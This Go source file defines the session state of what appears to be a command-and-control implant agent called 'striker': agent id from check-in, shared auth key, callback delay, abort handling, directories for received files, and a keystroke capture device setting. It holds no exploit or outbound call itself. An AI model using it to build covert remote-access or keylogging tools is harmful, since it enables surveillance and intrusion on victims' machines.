// Package session holds the state of one agent run: its identity, its
// callback cadence, the abort flag, the task registry and the
// per-session filesystem context that handlers work against.
//
// Handlers never touch process-wide state: the working directory and
// write directory live here, so two tasks changing directory cannot
// race on os.Chdir.
package session

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"

	"striker/internal/task"
	"striker/util"
)

// Options configures a new Session.
type Options struct {
	AuthKey  string
	Delay    int    // callback delay in seconds (min 1)
	WorkDir  string // initial working directory (default: process cwd)
	WriteDir string // default directory for received files (default: os.TempDir())
	Capacity int    // task registry capacity (default task.DefaultCapacity)
	Logger   *util.Logger
}

// Session is shared between the engine goroutine and every task
// goroutine.  Scalar fields are atomics or guarded by mu; the registry
// carries its own lock.
type Session struct {
	Logger *util.Logger
	Tasks  *task.Registry

	authKey string

	ctx    context.Context
	cancel context.CancelFunc

	delay   atomic.Int64
	aborted atomic.Bool

	mu         sync.RWMutex
	id         string
	workDir    string
	writeDir   string
	captureDev string
}

// New creates a Session whose context is derived from parent.
// Cancelling parent has the same effect as [Session.Abort].
func New(parent context.Context, opts Options) *Session {
	ctx, cancel := context.WithCancel(parent)

	logger := opts.Logger
	if logger == nil {
		logger = util.NewLogger(0)
	}
	workDir := opts.WorkDir
	if workDir == "" {
		if wd, err := os.Getwd(); err == nil {
			workDir = wd
		} else {
			workDir = string(filepath.Separator)
		}
	}
	writeDir := opts.WriteDir
	if writeDir == "" {
		writeDir = os.TempDir()
	}

	s := &Session{
		Logger:   logger,
		Tasks:    task.NewRegistry(opts.Capacity),
		authKey:  opts.AuthKey,
		ctx:      ctx,
		cancel:   cancel,
		workDir:  filepath.Clean(workDir),
		writeDir: filepath.Clean(writeDir),
	}
	s.SetDelay(opts.Delay)
	return s
}

// ── Identity ─────────────────────────────────────────────────────────

// ID returns the server-assigned agent id, empty before the first
// successful check-in.
func (s *Session) ID() string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.id
}

// SetID records the agent id.  Once set, the id cannot be replaced by
// a different one.
func (s *Session) SetID(id string) error {
	if id == "" {
		return fmt.Errorf("empty agent id")
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.id != "" && s.id != id {
		return fmt.Errorf("agent id already set to %q", s.id)
	}
	s.id = id
	return nil
}

// AuthKey returns the shared secret sent at check-in.
func (s *Session) AuthKey() string { return s.authKey }

// ── Cadence ──────────────────────────────────────────────────────────

// Delay returns the callback delay in seconds.
func (s *Session) Delay() int { return int(s.delay.Load()) }

// SetDelay changes the callback delay.  Values below one second are
// raised to one.
func (s *Session) SetDelay(secs int) {
	if secs < 1 {
		secs = 1
	}
	s.delay.Store(int64(secs))
}

// ── Abort ────────────────────────────────────────────────────────────

// Abort ends the session.  It is idempotent and cannot be undone.
func (s *Session) Abort() {
	s.aborted.Store(true)
	s.cancel()
}

// Aborted reports whether the session is ending, either through
// [Session.Abort] or because the parent context was cancelled.
func (s *Session) Aborted() bool {
	if s.aborted.Load() {
		return true
	}
	if s.ctx.Err() != nil {
		s.aborted.Store(true)
		return true
	}
	return false
}

// Context is cancelled when the session aborts.  Every task context
// derives from it.
func (s *Session) Context() context.Context { return s.ctx }

// ── Filesystem context ───────────────────────────────────────────────

// WorkDir returns the session working directory.
func (s *Session) WorkDir() string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.workDir
}

// Resolve interprets path relative to the working directory.
func (s *Session) Resolve(path string) string {
	if filepath.IsAbs(path) {
		return filepath.Clean(path)
	}
	return filepath.Join(s.WorkDir(), path)
}

// Chdir changes the working directory and returns the new absolute
// path.  The target must exist and be a directory.
func (s *Session) Chdir(dir string) (string, error) {
	target := s.Resolve(dir)
	fi, err := os.Stat(target)
	if err != nil {
		return "", err
	}
	if !fi.IsDir() {
		return "", fmt.Errorf("%s: not a directory", target)
	}
	s.mu.Lock()
	s.workDir = target
	s.mu.Unlock()
	return target, nil
}

// WriteDir returns the directory received files land in.
func (s *Session) WriteDir() string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.writeDir
}

// SetWriteDir changes the write directory.  Relative paths resolve
// against the working directory; the directory is not required to
// exist yet.
func (s *Session) SetWriteDir(dir string) string {
	target := s.Resolve(dir)
	s.mu.Lock()
	s.writeDir = target
	s.mu.Unlock()
	return target
}

// WritePath returns where a received file called name is stored.
// Absolute names are kept; anything else lands in the write directory.
func (s *Session) WritePath(name string) string {
	if filepath.IsAbs(name) {
		return filepath.Clean(name)
	}
	return filepath.Join(s.WriteDir(), name)
}

// CaptureDevice returns the keystroke capture device, empty for the
// platform default.
func (s *Session) CaptureDevice() string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.captureDev
}

// SetCaptureDevice chooses the keystroke capture device.
func (s *Session) SetCaptureDevice(dev string) {
	s.mu.Lock()
	s.captureDev = dev
	s.mu.Unlock()
}
